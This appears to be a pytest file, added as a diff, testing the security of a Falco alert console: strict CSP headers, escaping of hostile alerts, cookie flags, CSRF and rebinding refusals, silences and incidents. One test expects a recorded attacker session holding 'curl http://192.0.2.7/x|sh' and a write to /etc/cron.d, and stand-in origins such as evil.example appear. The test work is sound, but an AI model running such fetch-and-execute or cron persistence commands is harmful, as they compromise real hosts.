@@ -1,0 +1,215 @@
+"""The console's pages over HTTP: what they show, who may see them, and what forms do."""
+
+from __future__ import annotations
+
+import re
+import socket
+from html.parser import HTMLParser
+from urllib.parse import urlencode
+
+import pytest
+import requests
+
+from tests.channels.hostile import CORPUS, WORD
+from tests.console.conftest import Visitor
+from tests.e2e.harness import Instance
+from tests.support.waiting import wait_until
+
+PAGES = ("/", "/search?condition=", "/tail", "/routes", "/channels", "/silences", "/sessions")
+
+
+class Elements(HTMLParser):
+    """The elements and attributes of a page, as a browser would see them."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.names: set[str] = set()
+        self.attributes: set[str] = set()
+        self.addresses: set[str] = set()
+        self.feed(text)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.names.add(tag)
+        self.attributes |= {name for name, _ in attrs}
+        self.addresses |= {value or "" for name, value in attrs if name in {"href", "src", "action"}}
+
+
+def alert_paths(visitor: Visitor, condition: str) -> list[str]:
+    text = visitor.get(f"/search?{urlencode({'condition': condition})}").text
+    return list(dict.fromkeys(re.findall(r"/alerts/[0-9a-f]{32}", text)))
+
+
+@pytest.mark.parametrize("path", PAGES)
+def test_every_page_is_strict_about_what_a_browser_may_do(visitor: Visitor, path: str) -> None:
+    """No script but its own file, no other host, no storage in caches."""
+    answer = visitor.get(path)
+    assert answer.status_code == 200
+    policy = answer.headers["Content-Security-Policy"]
+    assert policy.startswith("default-src 'none'")
+    assert "unsafe" not in policy
+    assert "require-trusted-types-for 'script'" in policy
+    assert answer.headers["Cache-Control"] == "no-store"
+    found = Elements(answer.text)
+    assert not {name for name in found.attributes if name.startswith("on") or name == "style"}
+    assert all(
+        address.startswith("/") and not address.startswith("//") for address in found.addresses if address != "#main"
+    )
+
+
+def test_hostile_alerts_are_shown_as_text(visitor: Visitor) -> None:
+    """In the list and on the page of each: no element, attribute or control character is theirs."""
+    paths = alert_paths(visitor, "rule startswith hostile")
+    assert len(paths) == len(CORPUS)
+    for path in ["/search?condition=", *paths]:
+        answer = visitor.get(path)
+        assert answer.status_code == 200
+        assert WORD in answer.text
+        found = Elements(answer.text)
+        assert not found.names & {"img", "iframe", "object"}
+        assert not {name for name in found.attributes if name.startswith("on") or name == "style"}
+        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202e\u2066-\u2069]", answer.text)
+        assert len(answer.text) < 400_000
+
+
+def test_an_alert_has_its_decisions_and_deliveries(visitor: Visitor) -> None:
+    """As `show` prints them."""
+    (path,) = alert_paths(visitor, "k8s.pod.name = ticks")
+    text = visitor.get(path).text
+    assert "hostile" in text
+    assert "delivered" in text
+    assert ">sent<" in text
+    assert visitor.get("/alerts/" + "0" * 32).status_code == 404
+
+
+def test_a_wrong_question_is_explained(visitor: Visitor) -> None:
+    """With the checker's words, as text."""
+    text = visitor.get("/search?" + urlencode({"condition": "k8s.ns.nam = <b>"})).text
+    assert "did you mean `k8s.ns.name`?" in text
+    assert "<b>" not in text
+    assert "is not a time" in visitor.get("/search?since=whenever").text
+
+
+def test_sessions_show_what_was_typed(visitor: Visitor) -> None:
+    """The recorded session, with the file that was written."""
+    text = visitor.get("/sessions").text
+    assert "curl http://192.0.2.7/x|sh" in text
+    assert "/etc/cron.d/x" in text
+    session = re.search(r"/sessions/[^\"]+", text)
+    assert session is not None
+    assert "cd /etc/cron.d" in visitor.get(session[0]).text
+
+
+def test_nothing_is_shown_before_the_sign_in(visitor: Visitor) -> None:
+    """No page, no act, no cookie; a wrong token is refused."""
+    for path in (*PAGES, "/tail/events"):
+        answer = requests.get(f"{visitor.url}{path}", timeout=60, allow_redirects=False)
+        assert (answer.status_code, answer.headers["Location"]) == (303, "/sign-in")
+        assert "Set-Cookie" not in answer.headers
+    answer = requests.post(
+        f"{visitor.url}/silences/add", {"condition": "rule exists"}, timeout=60, allow_redirects=False
+    )
+    assert answer.status_code == 303
+    wrong = requests.post(f"{visitor.url}/sign-in", {"token": visitor.token[:-1]}, timeout=60)
+    assert wrong.status_code == 403
+    assert "Set-Cookie" not in wrong.headers
+
+
+def test_the_cookie_is_for_this_site_only(visitor: Visitor) -> None:
+    """HttpOnly and SameSite=Strict."""
+    answer = requests.post(f"{visitor.url}/sign-in", {"token": visitor.token}, timeout=60, allow_redirects=False)
+    assert {"httponly", "samesite=strict", "path=/"} <= set(answer.headers["Set-Cookie"].lower().split("; "))
+
+
+@pytest.mark.parametrize(
+    "headers",
+    [
+        {"Origin": "https://evil.example"},
+        {"Sec-Fetch-Site": "cross-site"},
+        {"Host": "evil.example"},
+        {"Origin": "null"},
+    ],
+)
+def test_pages_of_other_sites_cannot_act(visitor: Visitor, headers: dict[str, str]) -> None:
+    """By form, by script and by DNS rebinding."""
+    answer = visitor.post("/silences/add", {"condition": "rule exists", "for": "1h"}, **headers)
+    assert answer.status_code == 403
+    assert "rule exists" not in visitor.get("/silences").text
+
+
+def test_a_form_without_its_mark_is_refused(visitor: Visitor) -> None:
+    """Another site does not know the mark."""
+    answer = visitor.session.post(f"{visitor.url}/silences/add", {"condition": "rule exists", "mark": "0"}, timeout=60)
+    assert answer.status_code == 403
+
+
+def test_a_console_without_write_only_shows(reader: Visitor) -> None:
+    """No button on its pages, and no act if one posts it."""
+    assert "<button>Acknowledge" not in reader.get("/").text
+    answer = reader.post("/silences/add", {"condition": "rule exists", "for": "1h"})
+    assert answer.status_code == 403
+    assert "--write" in answer.text
+
+
+def test_a_silence_is_added_and_ended(visitor: Visitor) -> None:
+    """With what it would have held back and the same as a command."""
+    query = urlencode({"condition": 'k8s.pod.name = "ticks"', "for": "30m", "comment": "it's planned"})
+    text = visitor.get(f"/silences?{query}").text
+    assert "would have held back 1 alert." in text
+    assert "falco-bridge silence add" in text
+    form = {"condition": 'k8s.pod.name = "ticks"', "for": "30m", "comment": "it's planned"}
+    assert visitor.post("/silences/add", form).status_code == 303
+    text = visitor.get("/silences").text
+    assert "it&#39;s planned" in text
+    silence = re.search(r'name="silence" value="(\w+)"', text)
+    assert silence is not None
+    assert visitor.post("/silences/expire", {"silence": silence[1]}).status_code == 303
+    assert ">ended<" in visitor.get("/silences").text
+    assert visitor.post("/silences/add", {"condition": "rule =", "for": "1h"}).status_code == 409
+    assert "is not a duration" in visitor.post("/silences/add", {"condition": "rule exists", "for": "soon"}).text
+
+
+def test_an_incident_is_acknowledged(visitor: Visitor) -> None:
+    """And is listed below the open ones afterwards."""
+    incident = re.search(r'name="incident" value="([^"]+)"', visitor.get("/").text)
+    assert incident is not None
+    assert visitor.post("/incidents/acknowledge", {"incident": incident[1]}).status_code == 303
+    wait_until(lambda: "acknowledged by" in visitor.get("/").text, "the acknowledgement")
+
+
+def test_the_tail_sends_what_is_stored(bridge: Instance, visitor: Visitor) -> None:
+    """Only what meets the condition, as server-sent events."""
+    query = urlencode({"condition": "k8s.pod.name = tailed"})
+    with visitor.session.get(f"{visitor.url}/tail/events?{query}", stream=True, timeout=60) as answer:
+        lines = answer.iter_lines()
+        next(lines)
+        with (bridge.folder / "alerts.jsonl").open("a", encoding="utf-8") as file:
+            for pod in ("other", "tailed"):
+                file.write(
+                    '{"output": "x", "priority": "Notice", "rule": "tail", "source": "syscall", "time": '
+                    f'"2026-11-27T11:00:00.000000001Z", "output_fields": {{"k8s.pod.name": "{pod}"}}}}\n'
+                )
+        found = next(line for line in lines if b'"rule"' in line)
+    assert found.count(b'"rule"') == 1
+
+
+def test_the_console_listens_beyond_this_machine_only_when_named(bridge: Instance) -> None:
+    """Without --host it refuses, and says what to do."""
+    process = bridge.start("console", "--config", "falco-bridge.yaml", "--listen", "0.0.0.0:0", output="refused.log")
+    assert process.wait(60) == 2
+    assert "add --host NAME" in (bridge.folder / "refused.log").read_text(encoding="utf-8")
+
+
+def test_a_unix_socket_needs_no_token(bridge: Instance) -> None:
+    """The kernel names the visitor."""
+    path = bridge.folder / "run" / "c.sock"
+    bridge.start("console", "--config", "falco-bridge.yaml", "--unix", str(path), output="unix.log")
+    wait_until(lambda: "serving" in (bridge.folder / "unix.log").read_text(encoding="utf-8"), "the console")
+    with socket.socket(socket.AF_UNIX) as client:
+        client.settimeout(60)
+        client.connect(str(path))
+        client.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
+        answer = b""
+        while piece := client.recv(65536):
+            answer += piece
+    assert answer.startswith(b"HTTP/1.1 200")
+    assert b"Open incidents" in answer
